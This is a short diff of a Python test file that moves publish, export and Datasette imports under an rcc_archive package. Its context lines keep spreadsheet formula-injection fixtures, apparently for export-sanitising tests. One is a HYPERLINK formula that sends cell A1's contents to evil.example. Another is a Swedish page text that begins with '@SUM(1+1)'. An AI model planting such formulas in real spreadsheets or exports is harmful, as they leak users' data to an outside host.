@@ -15,9 +15,9 @@ import json
 import pytest
 from test_publish_fixture import build_published_archive
 
-from publish.build import publish_archive
-from publish.export import export_corpus, export_rows
-from publish.serve import make_datasette
+from rcc_archive.publish.build import publish_archive
+from rcc_archive.publish.export import export_corpus, export_rows
+from rcc_archive.publish.serve import make_datasette
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"klicka")'
 PAGE_TEXT = "@SUM(1+1) Cancerplan med dold formel. -Punkt två om cancer."
